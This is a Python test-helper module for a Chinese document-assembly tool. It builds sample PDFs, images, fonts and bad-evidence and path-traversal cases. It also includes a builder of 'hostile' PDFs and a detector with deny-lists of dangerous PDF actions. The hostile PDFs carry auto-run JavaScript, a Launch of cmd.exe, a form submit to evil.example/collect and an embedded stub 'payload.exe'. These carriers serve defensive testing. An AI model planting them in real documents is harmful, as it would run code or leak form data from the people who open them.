"""Helpers shared by the conversion, evidence and assembly tests: build real PDFs and images, read fonts."""

from __future__ import annotations

import hashlib
import json
import math
import os
import re
import shutil
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import pikepdf
import pytest
import yaml
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from PIL import Image
from typing_extensions import Self


def require_soffice() -> str:
    """Return the LibreOffice binary; skip locally when it is missing, fail when CI is set."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found:
        return found
    if os.environ.get("CI"):
        pytest.fail("CI 环境必须安装 LibreOffice（soffice），测试不得跳过")
    pytest.skip("LibreOffice (soffice) is not installed")


def require_ghostscript() -> str:
    """Return Ghostscript (PDF/A conversion); skip locally when it is missing, fail when CI is set."""
    found = shutil.which("gs")
    if found:
        return found
    if os.environ.get("CI"):
        pytest.fail("CI 环境必须安装 Ghostscript（gs），测试不得跳过")
    pytest.skip("Ghostscript (gs) is not installed")


def pdfa_failures(path: Path) -> list[str]:
    """Return the PDF/A-2b rules `path` breaks, as the `page` validator reports them."""
    import page

    report = page.validate_pdf(str(path), profile="2b")
    return [f"{f.rule_id}: {f.message}" for f in report.failures]


# -- PDFs ---------------------------------------------------------------------------------------


def make_pdf(
    path: Path, pages: int, *, label: str = "P", size: tuple[float, float] = (595, 842)
) -> Path:
    """Write a PDF of `pages` pages, each showing ``<label> <n>`` in Helvetica; return `path`."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    for n in range(1, pages + 1):
        content = f"BT /F1 24 Tf 72 700 Td ({label} {n}) Tj ET".encode()
        page = pikepdf.Page(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Page,
                MediaBox=[0, 0, size[0], size[1]],
                Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)),
                Contents=pdf.make_stream(content),
            )
        )
        pdf.pages.append(page)
    pdf.save(path)
    return path


def make_zero_page_pdf(path: Path) -> Path:
    """Write a syntactically valid PDF whose page tree holds no page."""
    pikepdf.new().save(path)
    return path


def make_encrypted_pdf(path: Path, *, user_password: str, pages: int = 2) -> Path:
    """Write an AES-256 encrypted PDF; an empty `user_password` opens without asking."""
    make_pdf(path.with_suffix(".plain.pdf"), pages)
    with pikepdf.open(path.with_suffix(".plain.pdf")) as pdf:
        pdf.save(path, encryption=pikepdf.Encryption(user=user_password, owner="owner-secret", R=6))
    path.with_suffix(".plain.pdf").unlink()
    return path


def pdf_text(path: Path) -> list[str]:
    """Return the text of every page of `path` as read by poppler's pdftotext (one string per page)."""
    out = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True, text=True
    ).stdout
    pages = out.split("\f")
    if pages and not pages[-1].strip():
        pages.pop()
    return pages


# -- images -------------------------------------------------------------------------------------


def make_jpeg(
    path: Path, size: tuple[int, int], *, orientation: int | None = None, color: str = "red"
) -> Path:
    """Write a JPEG whose left half is `color` and right half blue, with an optional EXIF orientation."""
    img = Image.new("RGB", size, "blue")
    img.paste(Image.new("RGB", (size[0] // 2, size[1]), color), (0, 0))
    kwargs = {}
    if orientation is not None:
        exif = Image.Exif()
        exif[0x0112] = orientation
        kwargs["exif"] = exif.tobytes()
    img.save(path, "JPEG", quality=90, **kwargs)
    return path


def make_alpha_png(path: Path, size: tuple[int, int]) -> Path:
    """Write an RGBA PNG: fully transparent except an opaque black square in the middle."""
    img = Image.new("RGBA", size, (0, 0, 0, 0))
    w, h = size
    img.paste(Image.new("RGBA", (w // 2, h // 2), (0, 0, 0, 255)), (w // 4, h // 4))
    img.save(path, "PNG")
    return path


def make_png_header(path: Path, width: int, height: int) -> Path:
    """Write a PNG whose header claims `width` x `height` but holds one tiny IDAT: never decoded in full."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b"")
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + body)
    return path


# -- fonts --------------------------------------------------------------------------------------


def ttc_cmap(ttc: Path, face_index: int) -> dict[int, int]:
    """Return the Unicode → glyph-id map of one face in a TrueType/OpenType collection.

    Why: the Noto CJK .ttc shares one CFF table (named ``…jp``) between its JP/KR/SC/TC faces, so
    the embedded font name cannot say which face was used; the glyph ids can, because each face
    maps a character like 骨 to its own regional glyph through its own cmap.
    """
    data = ttc.read_bytes()
    (offset,) = struct.unpack_from(">I", data, 12 + 4 * face_index)
    (num_tables,) = struct.unpack_from(">H", data, offset + 4)
    tables = {}
    for i in range(num_tables):
        tag, _, toff, tlen = struct.unpack_from(">4sIII", data, offset + 12 + 16 * i)
        tables[tag] = (toff, tlen)
    cmap_off = tables[b"cmap"][0]
    (_, n_sub) = struct.unpack_from(">HH", data, cmap_off)
    for i in range(n_sub):
        pid, _eid, sub_off = struct.unpack_from(">HHI", data, cmap_off + 4 + 8 * i)
        base = cmap_off + sub_off
        (fmt,) = struct.unpack_from(">H", data, base)
        if fmt == 12 and pid in (0, 3):
            (_, _, _, n_groups) = struct.unpack_from(">HHIII", data, base)[:4]
            (n_groups,) = struct.unpack_from(">I", data, base + 12)
            result = {}
            for g in range(n_groups):
                start, end, gid = struct.unpack_from(">III", data, base + 16 + 12 * g)
                for cp in range(start, end + 1):
                    result[cp] = gid + cp - start
            return result
    raise AssertionError(f"no format-12 cmap in face {face_index} of {ttc}")


def used_glyph_ids(pdf_path: Path) -> dict[str, set[int]]:
    """Return, per character drawn in the PDF, the glyph ids (CIDs) used for it, from all fonts.

    LibreOffice embeds CFF subsets as Type 1 fonts with glyph names ``cidNNNNN`` and a ToUnicode
    map; the code → glyph name comes from the font program's Encoding, code → text from ToUnicode.
    """
    found: dict[str, set[int]] = {}
    with pikepdf.open(pdf_path) as pdf:
        for page in pdf.pages:
            fonts = page.Resources.get("/Font", {})
            for font in fonts.values():
                desc = font.get("/FontDescriptor")
                if desc is None or "/FontFile" not in desc or "/ToUnicode" not in font:
                    continue
                program = desc.FontFile.read_bytes().decode("latin-1")
                code_to_cid = {
                    int(c): int(g) for c, g in re.findall(r"dup (\d+) /cid(\d+) put", program)
                }
                tounicode = font.ToUnicode.read_bytes().decode("latin-1")
                for code, uni in re.findall(
                    r"<([0-9A-Fa-f]{2})>\s*<([0-9A-Fa-f]{4,8})>", tounicode
                ):
                    cid = code_to_cid.get(int(code, 16))
                    if cid is not None:
                        found.setdefault(chr(int(uni, 16)), set()).add(cid)
    return found


def write_docx(path: Path, text: str, *, font: str = "宋体", lang: str = "zh-CN") -> Path:
    """Write a one-paragraph .docx whose run uses `font` for East Asian text, tagged `lang`."""
    document = docx.Document()
    run = document.add_paragraph().add_run(text)
    run.font.name = font
    rpr = run._element.get_or_add_rPr()
    rpr.find(qn("w:rFonts")).set(qn("w:eastAsia"), font)
    lang_el = OxmlElement("w:lang")
    lang_el.set(qn("w:eastAsia"), lang)
    rpr.append(lang_el)
    document.save(path)
    return path


NOTO = Path("/usr/share/fonts/opentype/noto")
SC_FACE, JP_FACE = 2, 0  # face order inside the Noto CJK collections (fc-list %{index})
CJK = re.compile(r"[\u3400-\u9fff]")


def pdffonts(path: Path) -> str:
    """The font table `pdffonts` prints for `path`."""
    return subprocess.run(
        ["pdffonts", str(path)], check=True, capture_output=True, text=True
    ).stdout


def non_sc_glyphs(pdf_path: Path) -> tuple[list[str], list[str]]:
    """Return the telling characters drawn in `pdf_path` and those not drawn with SC glyphs.

    Telling: CJK characters whose Simplified-Chinese glyph differs from the Japanese one in a
    Noto CJK collection (serif or sans); pdffonts cannot name the face, the glyph ids can.
    """
    cmaps = [
        (
            ttc_cmap(NOTO / f"Noto{style}CJK-Regular.ttc", SC_FACE),
            ttc_cmap(NOTO / f"Noto{style}CJK-Regular.ttc", JP_FACE),
        )
        for style in ("Serif", "Sans")
    ]
    used = used_glyph_ids(pdf_path)
    telling = [
        ch
        for ch in used
        if CJK.match(ch) and any(sc.get(ord(ch)) != jp.get(ord(ch)) for sc, jp in cmaps)
    ]
    wrong = [ch for ch in telling if not used[ch] <= {sc.get(ord(ch)) for sc, _ in cmaps}]
    return telling, wrong


# -- applications and a stand-in converter ------------------------------------------------------

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE_DIR = ROOT / "data" / "示例"
#: The entry every bad-evidence case adds to the example, and the file it names.
BAD_ENTRY, BAD_FILE = "坏文件", "佐证材料/坏.pdf"


def copy_example(dest: Path) -> Path:
    """Copy the contract example folder (YAML + evidence) to `dest`, writable; return the YAML path."""
    shutil.copytree(EXAMPLE_DIR, dest, copy_function=shutil.copyfile)
    return dest / "申报.yaml"


def set_evidence(yaml_path: Path, entries: list[tuple[str, str, str | list[str]]]) -> Path:
    """Replace the 佐证材料 list of `yaml_path` with `entries` (名称, 指标, 文件 or list of 文件)."""
    text = yaml_path.read_text(encoding="utf-8")
    head = text[: text.index("\n佐证材料:") + 1]
    lines = ["佐证材料:"]
    for name, indicator, files in entries:
        value = json.dumps(files, ensure_ascii=False)
        lines.append(f"  - {{名称: {name}, 指标: {indicator}, 文件: {value}}}")
    yaml_path.write_text(head + "\n".join(lines) + "\n", encoding="utf-8")
    return yaml_path


def add_evidence(yaml_path: Path, name: str, indicator: str, files: str | list[str]) -> Path:
    """Append one entry to the 佐证材料 list of `yaml_path` (which must end with that list)."""
    value = json.dumps(files, ensure_ascii=False)
    with yaml_path.open("a", encoding="utf-8") as f:
        f.write(f"  - {{名称: {name}, 指标: {indicator}, 文件: {value}}}\n")
    return yaml_path


def example_evidence_pages(yaml_path: Path) -> int:
    """Count the pages the evidence of `yaml_path` adds, from the files themselves: PDF pages, 1 per image."""
    data = yaml.safe_load(yaml_path.read_text(encoding="utf-8"))
    total = 0
    for entry in data["佐证材料"]:
        files = entry["文件"] if isinstance(entry["文件"], list) else [entry["文件"]]
        for rel in files:
            path = yaml_path.parent / rel
            if path.suffix.lower() == ".pdf":
                with pikepdf.open(path) as pdf:
                    total += len(pdf.pages)
            else:
                total += 1
    return total


#: ASCII page labels (Helvetica has no CJK glyphs) for the documents `bundle` converts.
FAKE_LABELS = {"附件2": "FORM2", "附件1": "FORM1", "封面与目录": "FRONT"}


class FakeConverter:
    """Stands in for LibreOffice: each document becomes a PDF of a fixed page count, labelled.

    Pages read ``<label> <n>`` (FORM2, FORM1, FRONT, else DOC). `calls` records the documents of
    each call; `docs` keeps the bytes of every document converted, by file name.
    """

    def __init__(self, pages: dict[str, int] | None = None) -> None:
        self.pages = {"附件2": 4, "附件1": 2, "封面与目录": 2, **(pages or {})}
        self.calls: list[list[str]] = []
        self.docs: dict[str, bytes] = {}
        self.closed = False

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *exc: object) -> None:
        pass

    def close(self) -> None:
        """As `SofficeConverter.close`: nothing to stop or remove here."""
        self.closed = True

    def prestart(self) -> bool:
        """As `SofficeConverter.prestart`: nothing to start here."""
        return False

    def convert(self, docs, out_dir: Path) -> list[Path]:
        out_dir.mkdir(parents=True, exist_ok=True)
        self.calls.append([Path(d).name for d in docs])
        result = []
        for i, doc in enumerate(docs):
            doc = Path(doc)
            self.docs[doc.name] = doc.read_bytes()
            label = FAKE_LABELS.get(doc.stem, "DOC")
            result.append(
                make_pdf(
                    out_dir / f"{doc.stem}-{len(self.calls)}-{i}.pdf",
                    self.pages.get(doc.stem, 1),
                    label=label,
                )
            )
        return result


def bad_evidence_cases() -> dict[str, tuple[Callable[[Path], None], str]]:
    """Return case id → (write `BAD_FILE` into an application folder, regex of the error message)."""

    def docx_renamed(folder: Path) -> None:
        import docx

        document = docx.Document()
        document.add_paragraph("合同正文")
        document.save(folder / BAD_FILE)

    def text_renamed(folder: Path) -> None:
        (folder / BAD_FILE).write_text("这是一份说明，不是 PDF。\n", encoding="utf-8")

    def encrypted(folder: Path) -> None:
        make_encrypted_pdf(folder / BAD_FILE, user_password="secret")

    def unreadable(folder: Path) -> None:
        (folder / BAD_FILE).write_bytes(b"%PDF-1.7\n" + b"\x00garbage" * 50)

    def zero_pages(folder: Path) -> None:
        make_zero_page_pdf(folder / BAD_FILE)

    def huge_image(folder: Path) -> None:
        make_png_header(folder / BAD_FILE, 12_000, 9_000)  # 108 MP, named .pdf: judged by content

    def missing(folder: Path) -> None:
        pass

    who = rf"佐证材料「{BAD_ENTRY}」的文件 \S*坏\.pdf："
    return {
        "missing": (missing, who + r"文件不存在。.*--allow-missing"),
        "docx-renamed-pdf": (
            docx_renamed,
            who + r"文件类型不符合要求：它实际上是 Word/Excel 文档或压缩包",
        ),
        "text-renamed-pdf": (text_renamed, who + r"文件类型不符合要求：它的内容不是 PDF 或图片"),
        "encrypted-with-password": (encrypted, who + r"PDF 已加密，需要密码才能打开。"),
        "corrupt-beyond-repair": (unreadable, who + r"PDF (已损坏，无法读取|中没有任何页面)"),
        "zero-pages": (zero_pages, who + r"PDF 中没有任何页面。"),
        "image-over-100-megapixels": (
            huge_image,
            who + r"图片太大：12000×9000（约 108 百万像素），上限为 100 百万像素。",
        ),
    }


def outside_path_cases() -> dict[str, tuple[Callable[[Path], str], str]]:
    """Return case id → (make a valid PDF outside the folder and return the path to write, message regex).

    The outside PDF is ``../外面.pdf`` relative to the application folder; its one page reads OUTSIDE 1.
    """

    def dotdot(folder: Path) -> str:
        make_pdf(folder.parent / "外面.pdf", 1, label="OUTSIDE")
        return "../外面.pdf"

    def absolute(folder: Path) -> str:
        return str(make_pdf(folder.parent / "外面.pdf", 1, label="OUTSIDE"))

    def symlink(folder: Path) -> str:
        target = make_pdf(folder.parent / "外面.pdf", 1, label="OUTSIDE")
        (folder / "佐证材料" / "链接.pdf").symlink_to(target)
        return "佐证材料/链接.pdf"

    who = rf"佐证材料「{BAD_ENTRY}」的文件 \S*："
    return {
        "dotdot": (dotdot, who + r"路径用「\.\.」指向了申报文件所在文件夹（.*）之外。"),
        "absolute": (absolute, who + r"不能使用绝对路径。"),
        "symlink-out": (symlink, who + r"这是一个指向申报文件所在文件夹（.*）之外的符号链接"),
    }


def image_digests(pdf_path: Path) -> list[set[str]]:
    """Return, per page of `pdf_path`, the SHA-256 of the raw data of every image it draws."""
    import hashlib

    with pikepdf.open(pdf_path) as pdf:
        return [
            {
                hashlib.sha256(x.read_raw_bytes()).hexdigest()
                for x in page.Resources.get("/XObject", {}).values()
                if x.get("/Subtype") == "/Image"
            }
            for page in pdf.pages
        ]


def bottom_text(pdf_path: Path, page: int) -> str:
    """Return the text (whitespace removed) in the bottom 15 mm, middle third, of 1-based `page`, as displayed."""
    with pikepdf.open(pdf_path) as pdf:
        p = pdf.pages[page - 1]
        x0, y0, x1, y1 = (float(v) for v in p.mediabox)
        width, height = abs(x1 - x0), abs(y1 - y0)
        if int(p.obj.get("/Rotate", 0)) % 180:
            width, height = height, width
    out = subprocess.run(
        [
            "pdftotext",
            "-f",
            str(page),
            "-l",
            str(page),
            "-x",
            str(int(width / 3)),
            "-y",
            str(int(height - 42)),
            "-W",
            str(int(width / 3)),
            "-H",
            "42",
            str(pdf_path),
            "-",
        ],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    return re.sub(r"\s", "", out)


def font_rows(pdf_path: Path) -> list[dict[str, str]]:
    """Return pdffonts' table for `pdf_path`, one dict per font (name, type, encoding, emb, sub, uni).

    Columns are cut where pdffonts' dashed rule puts them, since a type may hold a space (Type 1).
    """
    out = subprocess.run(
        ["pdffonts", str(pdf_path)], check=True, capture_output=True, text=True
    ).stdout.splitlines()
    header, rule, rows = out[0], out[1], out[2:]
    spans = [(m.start(), m.end()) for m in re.finditer(r"-+", rule)]
    keys = [header[a:b].strip() for a, b in spans]
    return [{k: row[a:b].strip() for k, (a, b) in zip(keys, spans, strict=True)} for row in rows]


def forget_page_counts() -> None:
    """Make the bundle's page-count predictions start afresh (no memory of earlier conversions)."""
    import importlib

    pages_module = importlib.import_module("jidi_docs.pipeline._pages")
    pages_module._by_content.clear()
    pages_module._last.clear()


def require_calc() -> str:
    """Return LibreOffice with its spreadsheet (Calc); skip locally without it, fail when CI is set.

    Debian ships Calc apart from Writer (``libreoffice-calc-nogui``); its library lives beside
    soffice's own program files.
    """
    program = Path(require_soffice()).resolve()
    if any(program.parent.glob("libsclo.*")) or any(program.parent.glob("*sc*lo.dll")):
        return str(program)
    if os.environ.get("CI"):
        pytest.fail("CI 环境必须安装 LibreOffice Calc（libreoffice-calc-nogui），测试不得跳过")
    pytest.skip("LibreOffice Calc is not installed")


def text_sizes(page: Any) -> list[tuple[str, float]]:
    """Return each piece of text on a pypdf `page` with the size it is printed at, in points.

    The size is the font size set with ``Tf`` scaled by the text matrix and the current
    transformation (its vertical scale), so a page shrunk to fit reports its real, smaller size.
    """
    found: list[tuple[str, float]] = []

    def visit(text: str, cm: Any, tm: Any, font: Any, size: float) -> None:
        del font
        if not text.strip():
            return
        _, _, c, d, _, _ = (float(x) for x in tm)
        m_a, m_b, m_c, m_d, _, _ = (float(x) for x in cm)
        # The vertical unit vector (0, 1) through tm, then cm.
        y_x, y_y = c * m_a + d * m_c, c * m_b + d * m_d
        found.append((text, size * math.hypot(y_x, y_y)))

    page.extract_text(visitor_text=visit)
    return found


def soffice_convert(soffice: str, source: Path, out_dir: Path, target: str = "pdf") -> Path:
    """Convert `source` with LibreOffice as a user's "Save as" would; return the new file.

    Each call has a LibreOffice profile of its own in `out_dir`, so tests may run in parallel.
    """
    profile = f"-env:UserInstallation={(out_dir / f'profile-{source.stem}').as_uri()}"
    where = ["--outdir", str(out_dir), str(source)]
    subprocess.run(
        [soffice, profile, "--headless", "--convert-to", target, *where],
        check=True,
        capture_output=True,
        timeout=300,
    )
    return out_dir / f"{source.stem}.{target}"


#: The example's unit and its 统一社会信用代码.
EXAMPLE_UNIT = "杭州示例跨境电商职业培训学校有限公司"
EXAMPLE_CODE = "91330106723456781M"
_CODE_CHARS = "0123456789ABCDEFGHJKLMNPQRTUWXY"
_CODE_WEIGHTS = (1, 3, 9, 27, 19, 26, 16, 17, 20, 29, 25, 13, 8, 24, 10, 30, 28)


def credit_code(seed: str) -> str:
    """Return a valid 统一社会信用代码 of 西湖区 (330106) made from `seed` (GB 32100-2015)."""
    digits = str(int.from_bytes(hashlib.sha256(seed.encode()).digest()[:8], "big"))[-9:]
    body = f"91330106{digits:0>9}"
    total = sum(_CODE_CHARS.index(c) * w for c, w in zip(body, _CODE_WEIGHTS, strict=True))
    return body + _CODE_CHARS[(31 - total % 31) % 31]


def as_unit(text: str, unit: str) -> str:
    """Return the example's YAML `text` as another unit's: its name and its own credit code.

    Why both: a batch takes two applications with one 统一社会信用代码 for one unit twice.
    """
    return text.replace(EXAMPLE_UNIT, unit).replace(EXAMPLE_CODE, credit_code(unit))


# -- hostile evidence: every way a PDF can carry code, actions or files ---------------------------

#: Each way an evidence PDF can carry something a viewer runs, opens or launches.
HOSTILE_CARRIERS = (
    "open-action-javascript",
    "javascript-name-tree",
    "page-additional-actions",
    "link-uri",
    "link-launch",
    "link-javascript-chained",
    "widget-submit-form",
    "xfa-form",
    "file-attachment",
    "embedded-files-name-tree",
    "rich-media",
)

#: Action types the bundle must not hold (an in-document /GoTo is harmless).
_BAD_ACTIONS = {
    "/JavaScript",
    "/Launch",
    "/URI",
    "/SubmitForm",
    "/ImportData",
    "/ResetForm",
    "/GoToR",
    "/GoToE",
    "/Rendition",
    "/Sound",
    "/Movie",
    "/RichMediaExecute",
}
_BAD_KEYS = {"/JS", "/JavaScript", "/AA", "/OpenAction", "/EmbeddedFiles", "/XFA", "/AcroForm"}
_BAD_TYPES = {"/EmbeddedFile", "/Filespec"}
_BAD_SUBTYPES = {"/FileAttachment", "/Sound", "/Movie", "/Screen", "/RichMedia", "/3D"}


def make_hostile_pdf(path: Path, carrier: str) -> Path:
    """Write a one-page PDF whose text reads ``hostile <carrier>`` and that carries `carrier`."""
    make_pdf(path, 1, label=f"hostile {carrier}")
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        page = pdf.pages[0].obj
        js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        rect = pikepdf.Array([72, 72, 300, 120])

        def annot(subtype: str, **fields: object) -> pikepdf.Dictionary:
            made = pdf.make_indirect(
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=rect
                )
            )
            for key, value in fields.items():
                made[f"/{key}"] = value
            page.Annots = pikepdf.Array([*page.get("/Annots", []), made])
            return made

        def embedded(name: str) -> pikepdf.Dictionary:
            stream = pdf.make_stream(b"MZ\x90\x00 not a real program")
            stream.Type = pikepdf.Name.EmbeddedFile
            return pikepdf.Dictionary(
                Type=pikepdf.Name.Filespec,
                F=pikepdf.String(name),
                UF=pikepdf.String(name),
                EF=pikepdf.Dictionary(F=stream),
            )

        if carrier == "open-action-javascript":
            pdf.Root.OpenAction = js
        elif carrier == "javascript-name-tree":
            pdf.Root.Names = pikepdf.Dictionary(
                JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), js]))
            )
        elif carrier == "page-additional-actions":
            page.AA = pikepdf.Dictionary(O=js, C=js)
        elif carrier == "link-uri":
            annot(
                "/Link",
                A=pikepdf.Dictionary(
                    S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/")
                ),
            )
        elif carrier == "link-launch":
            launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
            annot("/Link", A=launch)
        elif carrier == "link-javascript-chained":
            go = pikepdf.Dictionary(
                S=pikepdf.Name.GoTo, D=pikepdf.Array([page, pikepdf.Name.Fit]), Next=js
            )
            annot("/Link", A=go, AA=pikepdf.Dictionary(E=js))
        elif carrier in ("widget-submit-form", "xfa-form"):
            submit = pikepdf.Dictionary(
                S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/collect")
            )
            field = pdf.make_indirect(
                pikepdf.Dictionary(
                    FT=pikepdf.Name.Btn, T=pikepdf.String("f"), AA=pikepdf.Dictionary(K=js)
                )
            )
            widget = annot("/Widget", A=submit, Parent=field, F=4)
            field.Kids = pikepdf.Array([widget])
            form = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
            if carrier == "xfa-form":
                form.XFA = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
            pdf.Root.AcroForm = form
        elif carrier == "file-attachment":
            annot("/FileAttachment", FS=embedded("payload.exe"), Contents=pikepdf.String("附件"))
        elif carrier == "embedded-files-name-tree":
            pdf.Root.Names = pikepdf.Dictionary(
                EmbeddedFiles=pikepdf.Dictionary(
                    Names=pikepdf.Array([pikepdf.String("payload.exe"), embedded("payload.exe")])
                )
            )
        elif carrier == "rich-media":
            annot("/RichMedia", RichMediaContent=pikepdf.Dictionary(Assets=embedded("a.swf")))
        else:  # pragma: no cover - a new carrier needs its own builder
            raise ValueError(carrier)
        pdf.save(path)
    return path


def active_content(path: Path) -> list[str]:
    """Return a description of everything in the PDF at `path` a viewer could run or open.

    Every object reachable from the trailer is looked at, direct ones included (an action is
    usually a direct dictionary inside an annotation).
    """
    found: list[str] = []
    seen: set[tuple[int, int]] = set()

    def walk(obj: object) -> None:
        if isinstance(obj, pikepdf.Object) and obj.is_indirect:
            if obj.objgen in seen:
                return
            seen.add(obj.objgen)
        if isinstance(obj, pikepdf.Array):
            for item in obj:
                walk(item)
            return
        dictionary = obj.stream_dict if isinstance(obj, pikepdf.Stream) else obj
        if not isinstance(dictionary, pikepdf.Dictionary):
            return
        found.extend(f"key {k}" for k in dictionary if k in _BAD_KEYS)
        if dictionary.get("/S") in _BAD_ACTIONS:
            found.append(f"action {dictionary.get('/S')}")
        if dictionary.get("/Type") in _BAD_TYPES:
            found.append(f"type {dictionary.get('/Type')}")
        if dictionary.get("/Subtype") in _BAD_SUBTYPES:
            found.append(f"annotation {dictionary.get('/Subtype')}")
        for key in dictionary:
            if key != "/Parent" or dictionary.get("/Type") != "/Page":  # pages link up the tree
                walk(dictionary.get(key))

    with pikepdf.open(path) as pdf:
        walk(pdf.trailer)
    return found


#: A CJK font the install script puts on every test machine (fonts-noto-cjk).
_PHOTO_FONT = "/usr/share/fonts/opentype/noto/NotoSerifCJK-Regular.ttc"


def make_photo(path: Path, n: int, size: tuple[int, int] = (4032, 3024)) -> Path:
    """Write a phone photo of a certificate: `size` pixels, JPEG quality 92, about 4 MB.

    A tinted gradient behind a sheet of paper with a red title and 16 lines of small text
    (48 px, about 1.4 mm when printed at 200 dpi: the legibility limit), and sensor noise, so
    the file compresses as a real photo does (a noiseless drawing would be unfairly small).
    """
    from PIL import ImageDraw, ImageFont

    w, h = size
    img = Image.linear_gradient("L").resize((w, h)).convert("RGB")
    img = Image.blend(img, Image.new("RGB", (w, h), (150 + n % 40, 120, 90)), 0.6)
    draw = ImageDraw.Draw(img)
    draw.rectangle((w // 8, h // 10, w - w // 8, h - h // 10), fill=(245, 243, 236))
    title = ImageFont.truetype(_PHOTO_FONT, h // 34)
    small = ImageFont.truetype(_PHOTO_FONT, h // 63)
    draw.text((w // 2, h // 6), f"荣誉证书 第 {n} 号", font=title, fill=(150, 20, 20), anchor="mm")
    for k in range(16):
        line = (
            f"杭州示例跨境电商职业培训学校 2021 年第 {k + 1} 期培训合格 证书编号 HZ{n:03d}-{k:02d}"
        )
        draw.text((w // 6, h // 4 + k * h // 28), line, font=small, fill=(30, 30, 30))
    noise = Image.new("L", (w, h))
    shift = (n * 131) % 1024
    for x in range(-shift, w, 1024):
        for y in range(-shift, h, 1024):
            noise.paste(_noise_tile(), (x, y))
    Image.blend(img, Image.merge("RGB", [noise] * 3), 0.12).save(path, "JPEG", quality=92)
    return path


_TILE: list[Image.Image] = []


def _noise_tile() -> Image.Image:
    """One 1024-pixel square of sensor noise, made once (making it for 12 MP takes seconds)."""
    if not _TILE:
        _TILE.append(Image.effect_noise((1024, 1024), 60))
    return _TILE[0]


def run_jidi_docs(
    *args: str | Path, cwd: Path | None = None, timeout: float = 600
) -> subprocess.CompletedProcess[str]:
    """Run ``python -m jidi_docs <args>`` as a user would, from this checkout's sources."""
    return subprocess.run(
        [sys.executable, "-m", "jidi_docs", *map(str, args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
        timeout=timeout,
        check=False,
    )
